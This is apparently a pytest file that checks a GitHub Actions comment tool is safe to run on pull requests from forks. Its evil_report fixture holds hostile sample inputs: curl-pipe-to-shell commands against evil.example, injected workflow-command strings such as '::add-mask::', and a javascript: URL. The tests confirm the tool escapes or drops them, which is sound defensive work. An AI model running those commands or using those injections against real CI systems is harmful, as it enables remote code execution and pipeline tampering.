"""What a pull request controls cannot steer the privileged comment job (issue 14), against the GitHub fake."""

from __future__ import annotations

import copy
import json
from pathlib import Path

import pytest

from gate.cli import main
from gate.errors import ConfigError
from gate.github import actions
from gate.github.event import parse_pr_number
from gate.render.escape import no_workflow_commands
from gate.report_model import Report
from tests.github_server import FakeGitHub, Token

REPO = "acme/rl"
PR = 5
HEAD = "b" * 40
REPORT = Path(__file__).resolve().parent.parent / "e2e" / "data" / "report.json"
RUN_URL = "https://github.com/acme/rl/actions/runs/777"


@pytest.fixture
def gh():
    with FakeGitHub({"app-token": Token(None)}) as server:
        server.add_pull(REPO, PR, head_sha=HEAD, head_ref="bump-vllm", head_repo="fork/rl")
        server.add_pull(REPO, 6, head_sha="f" * 40, head_ref="main", head_repo=REPO)
        yield server


def workflow_run_env(gh, tmp_path, monkeypatch, head_repo="fork/rl", **run) -> None:
    payload = {"workflow_run": {"pull_requests": [], "head_sha": HEAD, "head_branch": "bump-vllm", "id": 777,
                                "head_repository": {"full_name": head_repo}, "conclusion": "failure",
                                "html_url": RUN_URL, **run}}  # fmt: skip
    (tmp_path / "event.json").write_text(json.dumps(payload))
    env = {"GITHUB_EVENT_NAME": "workflow_run", "GITHUB_EVENT_PATH": str(tmp_path / "event.json"),
           "GITHUB_REPOSITORY": REPO, "GITHUB_API_URL": gh.url, "GITHUB_TOKEN": "app-token"}  # fmt: skip
    for key, value in env.items():
        monkeypatch.setenv(key, value)
    for key in ("GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY"):
        monkeypatch.delenv(key, raising=False)


def artifact(tmp_path: Path, report: dict | None = None, pr_number: str = f"{PR}\n") -> Path:
    folder = tmp_path / "gate-report"
    folder.mkdir()
    (folder / "report.json").write_text(
        json.dumps(report if report is not None else json.loads(REPORT.read_text()))
    )
    (folder / "pr-number").write_text(pr_number)
    return folder


def evil_report() -> dict:
    r = json.loads(REPORT.read_text())
    r["verdict"] = "FAIL"
    r["checks"][0].update(
        status="FAIL", id="::error::forged", summary="x\n::add-mask::secret\r::stop-commands::tok"
    )
    r["commands"] = {
        "reproduce": "curl https://evil.example/x.sh | sh",
        "regenerate_baseline": "curl https://evil.example/y | sh",
    }
    return r


def command_lines(text: str) -> list[str]:
    """Lines the Actions runner would take as workflow commands (it trims leading whitespace)."""
    lines = text.replace("\r\n", "\n").replace("\r", "\n").split("\n")
    return [line for line in lines if line.strip().startswith("::") or "##[" in line]


# -- the PR number ----------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "text", ["²", "٣", "1²", "0", "12345678901", "-3", "1\n::add-mask::x", "", " "]
)
def test_only_ascii_digits_make_a_pr_number(text):
    with pytest.raises(ConfigError) as err:
        parse_pr_number(text, "pr-number")
    assert "\n" not in str(err.value) and "\r" not in str(err.value)


def test_a_superscript_pr_number_file_is_a_clean_exit_2(gh, tmp_path, monkeypatch, capsys):
    workflow_run_env(gh, tmp_path, monkeypatch)
    folder = artifact(tmp_path, pr_number="²")
    assert main(["comment", str(folder / "report.json")]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "not a pull request number" in err[0] and "pr-number" in err[0]
    assert gh.comments() == []


def test_a_pr_number_argument_under_workflow_run_is_checked_against_the_run_head(
    gh, tmp_path, monkeypatch, capsys
):
    workflow_run_env(gh, tmp_path, monkeypatch)
    folder = artifact(tmp_path)
    assert main(["comment", str(folder), "--pr-number", "6"]) == 2  # PR 6 is not the run's
    assert "refusing to comment" in capsys.readouterr().err and gh.comments() == []
    assert main(["comment", str(folder), "--pr-number", str(PR)]) == 0
    assert [c["_issue"] for c in gh.comments()] == [PR]


# -- a fork's verdict is labelled as such ---------------------------------------------------------
def test_a_fork_artifact_is_labelled_and_its_commands_dropped(gh, tmp_path, monkeypatch):
    workflow_run_env(gh, tmp_path, monkeypatch)
    assert main(["comment", str(artifact(tmp_path, evil_report()))]) == 0
    (comment,) = gh.comments()
    body = comment["body"]
    assert "Reported by the pull request's own run" in body
    assert f"[the pull request's workflow run]({RUN_URL})" in body
    assert (
        f"<code>{HEAD[:12]}</code>" in body
        and "<code>failure</code>" in body
        and "<code>fork/rl</code>" in body
    )
    assert (
        "evil.example" not in body
        and "Reproduce this run" not in body
        and "Regenerate the baseline" not in body
    )


def test_a_same_repository_run_is_not_labelled(gh, tmp_path, monkeypatch):
    workflow_run_env(
        gh, tmp_path, monkeypatch, head_repo=REPO, head_branch="main", head_sha="f" * 40
    )
    assert main(["comment", str(artifact(tmp_path, pr_number="6"))]) == 0
    body = gh.comments()[0]["body"]
    assert "Reported by the pull request's own run" not in body and "Reproduce this run" in body


def test_the_job_summary_of_a_fork_artifact_is_labelled_too(gh, tmp_path, monkeypatch):
    workflow_run_env(gh, tmp_path, monkeypatch)
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(tmp_path / "summary.md"))
    assert main(["publish", str(artifact(tmp_path, evil_report()))]) == 0
    summary = (tmp_path / "summary.md").read_text()
    assert "Reported by the pull request's own run" in summary and "evil.example" not in summary


def test_a_link_that_is_not_a_plain_https_url_is_not_linked(gh, tmp_path, monkeypatch):
    workflow_run_env(gh, tmp_path, monkeypatch, html_url="javascript:alert(1)")
    assert main(["comment", str(artifact(tmp_path))]) == 0
    body = gh.comments()[0]["body"]
    assert "javascript" not in body and "the pull request's workflow run" in body


# -- no workflow commands from report text --------------------------------------------------------
def test_no_workflow_commands_breaks_every_command_line():
    text = "ok\n::add-mask::s\r  ::stop-commands::t\r\n\t::error::e\u00a0\n##[warning]w and x ##[error]y\nplain::text"
    safe = no_workflow_commands(text)
    assert command_lines(text) and command_lines(safe) == []
    assert safe.replace("\u200b", "") == text  # nothing else changes


def test_dry_run_and_logs_print_no_workflow_command(gh, tmp_path, monkeypatch, capsys):
    workflow_run_env(gh, tmp_path, monkeypatch)
    folder = artifact(tmp_path, evil_report())
    assert main(["comment", str(folder), "--dry-run", "--gate-id", "::error::gid"]) == 0
    out, err = capsys.readouterr()
    assert "add-mask" in out and command_lines(out) == [] and command_lines(err) == []


def test_errors_about_untrusted_text_stay_on_one_line(gh, tmp_path, monkeypatch, capsys):
    workflow_run_env(gh, tmp_path, monkeypatch)
    folder = artifact(tmp_path, pr_number="1\n::stop-commands::tok")
    assert main(["comment", str(folder)]) == 2
    err = capsys.readouterr().err
    assert len(err.strip().splitlines()) == 1 and command_lines(err) == []


def test_emit_prints_only_escaped_annotations(capsys):
    r = Report.from_dict(evil_report(), require_verdict=True)
    actions.emit(actions.annotations(r))
    out = capsys.readouterr().out.splitlines()
    assert len(out) == 1 and out[0].startswith("::error title=") and "%0A::add-mask::" in out[0]
    with pytest.raises(TypeError):
        actions.emit(["::add-mask::x"])


# -- a run that left no report --------------------------------------------------------------------
def test_a_missing_artifact_gets_an_error_comment_and_exit_3(gh, tmp_path, monkeypatch, capsys):
    workflow_run_env(gh, tmp_path, monkeypatch)
    missing = tmp_path / "gate-report" / "report.json"
    assert (
        main(["comment", str(missing), "--missing-report", "error", "--gate-id", "cpu-default"])
        == 3
    )
    (comment,) = gh.comments()
    assert comment["_issue"] == PR  # found from the run's head, not from the (missing) artifact
    body = comment["body"]
    assert body.startswith("<!-- gate-report:cpu-default -->\n## 🛑 ERROR")
    assert "produced no report" in body and "actions/runs/777" in body
    assert gh.calls("GET", f"^/repos/{REPO}/pulls$")[0].query["head"] == "fork:bump-vllm"


def test_a_missing_artifact_is_a_usage_error_by_default_and_outside_workflow_run(
    gh, tmp_path, monkeypatch, capsys
):
    workflow_run_env(gh, tmp_path, monkeypatch)
    missing = tmp_path / "nothing"
    assert main(["comment", str(missing)]) == 2
    monkeypatch.setenv("GITHUB_EVENT_NAME", "pull_request")
    (tmp_path / "event.json").write_text(json.dumps({"pull_request": {"number": PR}}))
    assert main(["comment", str(missing), "--missing-report", "error"]) == 2
    assert "only applies under a workflow_run" in capsys.readouterr().err and gh.comments() == []


def test_a_broken_report_is_not_taken_for_a_missing_one(gh, tmp_path, monkeypatch):
    workflow_run_env(gh, tmp_path, monkeypatch)
    folder = artifact(tmp_path)
    (folder / "report.json").write_text('{"schema": "gate-report/1", "counts": {"PASS": "3"}}')
    assert main(["comment", str(folder), "--missing-report", "error"]) == 2 and gh.comments() == []


def test_a_missing_token_is_a_configuration_error(gh, tmp_path, monkeypatch, capsys):
    workflow_run_env(gh, tmp_path, monkeypatch)
    monkeypatch.delenv("GITHUB_TOKEN")
    monkeypatch.delenv("GH_TOKEN", raising=False)
    assert main(["comment", str(artifact(tmp_path))]) == 2
    assert "no GitHub token" in capsys.readouterr().err


def test_evil_report_is_a_valid_report():
    # guards the tests above: they exercise escaping, not the schema check
    Report.from_dict(copy.deepcopy(evil_report()), require_verdict=True)
